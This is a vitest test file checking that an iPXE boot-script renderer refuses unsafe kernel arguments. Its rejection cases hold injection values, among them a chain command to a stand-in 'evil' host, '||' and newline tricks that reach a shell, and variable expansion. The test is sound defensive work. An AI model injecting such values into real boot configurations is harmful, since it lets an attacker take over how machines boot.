import { describe, expect, it } from 'vitest';
import { UnsafeKernelLine } from '../domain/kernel-args';
import type { BootProfile } from '../domain/profile';
import { renderIpxeScript } from './script';

const profile = (args: string[]): BootProfile => ({
  id: '01a225fe-4a33-7b92-8660-b252b6360bdc',
  machine_id: '01a225fe-4a34-7eef-bfea-0db9b0f1578b',
  kernel: { id: '01a225fe-44b7-7558-acda-e9fce05d3b21', args, sha256: 'a'.repeat(64), size: 1 },
  initrd: { id: '01a225fe-44ba-7b92-b289-5d55b15a3256', sha256: 'b'.repeat(64), size: 1 },
});
const render = (args: string[]) => renderIpxeScript({ machineId: 'm', mac: '52:54:00:12:34:56', profile: profile(args), generatedAt: new Date(0) });

describe('renderIpxeScript checks the kernel line again, whatever was stored', () => {
  it('writes safe arguments as they are', () => {
    expect(render(['ds=nocloud;s=http://10.0.0.1/seed/', 'quiet'])).toContain('initrd=initrd ds=nocloud;s=http://10.0.0.1/seed/ quiet\n');
  });

  it.each([[[';', 'chain', 'http://evil/x']], [['a', '||', 'shell']], [['${net0/ip}']], [['a\nshell']], [['#']]])('refuses stored %j: no script at all', (args) => {
    expect(() => render(args)).toThrow(UnsafeKernelLine);
  });
});
